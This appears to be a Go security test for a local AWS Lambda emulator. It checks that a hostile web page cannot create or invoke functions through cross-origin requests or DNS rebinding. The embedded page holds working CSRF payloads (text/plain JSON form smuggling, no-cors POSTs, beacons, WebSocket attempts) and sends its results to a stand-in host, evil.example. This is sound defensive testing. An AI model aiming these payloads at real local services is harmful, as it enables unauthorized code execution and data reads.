package node

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/service/lambda"
	"github.com/aws/aws-sdk-go-v2/service/lambda/types"

	"thaw/internal/door"
	"thaw/logstore"
)

// evilPage tries what a page can do to a server on the loopback, one way after the other, and then tells its own server
// what became of it. TARGET is the server under attack, empty when the page pretends to be that server (DNS rebinding);
// then it could also read the answers.
const evilPage = `<!doctype html><body><iframe name="sink"></iframe><script>
const target = "TARGET", home = "HOME", create = CREATE;
const invoke = target + "/2015-03-31/functions/victim/invocations", functions = target + "/2015-03-31/functions";
const seen = {};
const attempt = async (name, f) => { try { seen[name] = String(await f()) } catch (e) { seen[name] = "error " + e } };
const within = (ms, p) => Promise.race([p, new Promise(r => setTimeout(r, ms, "no event"))]);
const form = (action, method, enctype, name, value) => within(2000, new Promise(done => {
  const f = document.createElement("form"), i = document.createElement("input"), frame = document.createElement("iframe");
  frame.name = "f" + Math.random(); frame.onload = () => done("loaded"); document.body.append(frame);
  Object.assign(f, {action, method, enctype, target: frame.name}); Object.assign(i, {name, value}); f.append(i); document.body.append(f); f.submit();
}));
const element = (tag, url) => within(2000, new Promise(done => {
  const e = document.createElement(tag); e.onload = () => done("loaded"); e.onerror = () => done("failed"); e.src = url; document.body.append(e);
}));
(async () => {
  const json = JSON.stringify(create);
  await attempt("simple POST", async () => (await fetch(functions, {method: "POST", headers: {"Content-Type": "text/plain;charset=UTF-8"}, body: json})).text());
  await attempt("no-cors POST", async () => (await fetch(functions, {method: "POST", mode: "no-cors", body: json})).type);
  await attempt("no-cors invoke", async () => (await fetch(invoke, {method: "POST", mode: "no-cors", body: "{}"})).type);
  await attempt("JSON POST", async () => (await fetch(functions, {method: "POST", headers: {"Content-Type": "application/json"}, body: json})).text());
  await attempt("PUT", async () => (await fetch(target + "/2015-03-31/functions/victim/configuration", {method: "PUT", body: "{}"})).text());
  await attempt("read", async () => (await fetch(functions + "/")).text());
  await attempt("beacon", async () => navigator.sendBeacon(invoke, "{}"));
  await attempt("form", () => form(invoke, "post", "text/plain", '{"a":"', '"}'));
  await attempt("form create", () => form(functions, "post", "text/plain", json.slice(0, -1) + ',"x":"', '"}'));
  await attempt("image", () => element("img", functions + "/"));
  await attempt("script", () => element("script", functions + "/?MaxItems=1"));
  await attempt("frame", () => element("iframe", functions + "/?MaxItems=2"));
  await attempt("WebSocket", () => within(2000, new Promise(done => {
    const s = new WebSocket(new URL(invoke, location).href.replace("http", "ws")); s.onopen = () => done("open"); s.onerror = () => done("failed");
  })));
  await attempt("metrics", async () => (await fetch(target + "/metrics")).text());
  await fetch(home, {method: "POST", mode: "no-cors", body: JSON.stringify(seen)});
})();
</script>`

// browser runs a headless Chromium that looks at a page, until the test ends.
func browser(t *testing.T, url, resolve string) {
	t.Helper()
	var exe string
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if path, err := exec.LookPath(name); err == nil {
			exe = path
			break
		}
	}
	if exe == "" {
		t.Skip("no Chromium here; Debian's package chromium has one")
	}
	profile := t.TempDir()
	cmd := exec.Command(exe, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update",
		"--disable-sync", "--disable-dev-shm-usage", "--user-data-dir="+profile, "--host-resolver-rules="+resolve, url)
	cmd.Env = append(os.Environ(), "HOME="+profile, "NO_PROXY=*", "no_proxy=*")
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true, Pdeathsig: syscall.SIGKILL}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) //nolint:errcheck // its group: it starts more
		cmd.Wait()                                      //nolint:errcheck // killed
	})
}

// recorder notes what comes to a handler, and its answers.
type recorder struct {
	http.Handler
	mu   sync.Mutex
	seen []string // METHOD PATH STATUS
}

type statusWriter struct {
	http.ResponseWriter
	status int
}

func (w *statusWriter) WriteHeader(status int) {
	w.status = status
	w.ResponseWriter.WriteHeader(status)
}
func (w *statusWriter) Unwrap() http.ResponseWriter { return w.ResponseWriter }

func (rec *recorder) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s := &statusWriter{w, 200}
	rec.Handler.ServeHTTP(s, r)
	rec.mu.Lock()
	defer rec.mu.Unlock()
	rec.seen = append(rec.seen, fmt.Sprintf("%s %s %d", r.Method, r.URL.Path, s.status))
}

func TestNoWebPageRunsCode(t *testing.T) {
	t.Parallel()
	s := openServer(t, "process", t.TempDir())
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		s.node.Close(ctx) //nolint:errcheck // a test
	})
	s.client = clientIn(s.node.Addr(), "us-east-1") // where requests without a signature go
	code := zipOf(t, map[string]string{"bootstrap": "#!/bin/sh\nexit 1\n"})
	arn, runtime, handler, victim := "arn:aws:iam::000000000000:role/r", "provided.al2023", "x", "victim"
	in := &lambda.CreateFunctionInput{FunctionName: &victim, Runtime: "provided.al2023", Handler: &handler, Role: &arn, Code: &types.FunctionCode{ZipFile: code}}
	if _, err := s.client.CreateFunction(t.Context(), in); err != nil {
		t.Fatal(err)
	}
	(&deployed{server: s, name: victim}).wait()
	create, err := json.Marshal(map[string]any{"FunctionName": "evil", "Runtime": runtime, "Handler": handler, "Role": arn,
		"Code": map[string]string{"ZipFile": base64.StdEncoding.EncodeToString(code)}})
	if err != nil {
		t.Fatal(err)
	}

	for _, c := range []struct {
		name   string
		rebind bool
	}{{"a page of another origin", false}, {"a page whose name comes to mean this host", true}} {
		t.Run(c.name, func(t *testing.T) {
			rec := &recorder{Handler: s.node.public}
			told := make(chan string, 1)
			home, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			_, homePort, _ := net.SplitHostPort(home.Addr().String())
			page := func(target string) http.HandlerFunc {
				return func(w http.ResponseWriter, r *http.Request) {
					if r.Method == http.MethodPost {
						b, _ := io.ReadAll(r.Body)
						told <- string(b)
						return
					}
					w.Header().Set("Content-Type", "text/html")
					io.WriteString(w, strings.NewReplacer("TARGET", target, "HOME", "http://evil.example:"+homePort+"/told", "CREATE", string(create)).Replace(evilPage))
				}
			}
			l, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			_, port, _ := net.SplitHostPort(l.Addr().String())
			url := "http://evil.example:" + homePort + "/"
			handler := http.Handler(rec)
			if c.rebind {
				// The page comes once under the name. From then on the name, at the same port, means the server.
				url = "http://rebind.evil.example:" + port + "/page"
				handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
					if r.URL.Path == "/page" {
						page("")(w, r)
						return
					}
					rec.ServeHTTP(w, r)
				})
			}
			evil := door.Serve(home, page("http://127.0.0.1:"+port), door.Options{MaxConnections: 50})
			defer evil.Close()
			attacked := door.Serve(l, handler, door.Options{MaxConnections: 50, ErrorLog: slog.NewLogLogger(slog.DiscardHandler, 0)})
			defer attacked.Close()
			browser(t, url, "MAP *.evil.example 127.0.0.1, MAP evil.example 127.0.0.1")
			var result map[string]string
			select {
			case text := <-told:
				if err := json.Unmarshal([]byte(text), &result); err != nil {
					t.Fatal(err)
				}
			case <-time.After(2 * time.Minute):
				t.Fatal("the page has not finished")
			}
			t.Logf("the page saw %v", result)
			rec.mu.Lock()
			defer rec.mu.Unlock()
			methods := map[string]int{}
			for _, line := range rec.seen {
				if !strings.HasSuffix(line, " 403") && !strings.Contains(line, "favicon") {
					t.Errorf("not refused: %s", line)
				}
				methods[strings.Fields(line)[0]]++
			}
			// That they were refused proves something only if they came.
			if methods["POST"] < 5 || methods["GET"] < 4 {
				t.Errorf("few attempts arrived: %v", rec.seen)
			}
			for name, what := range result {
				if strings.Contains(what, "victim") || strings.Contains(what, "thaw_") || what == "open" {
					t.Errorf("%s has read %s", name, what)
				}
			}
		})
	}

	list, err := s.client.ListFunctions(t.Context(), &lambda.ListFunctionsInput{})
	if err != nil || len(list.Functions) != 1 {
		t.Errorf("there are %d functions, %v", len(list.Functions), err)
	}
	if events, err := s.node.logs.Filter(t.Context(), logstore.Query{Group: "/aws/lambda/victim"}); err == nil && len(events) > 0 {
		t.Errorf("the function ran: %v", events)
	}
	if left, _ := filepath.Glob(filepath.Join(s.node.cfg.DataDir, "sandboxes-process", "*-*")); len(left) > 0 {
		t.Errorf("environments: %v", left)
	}
}
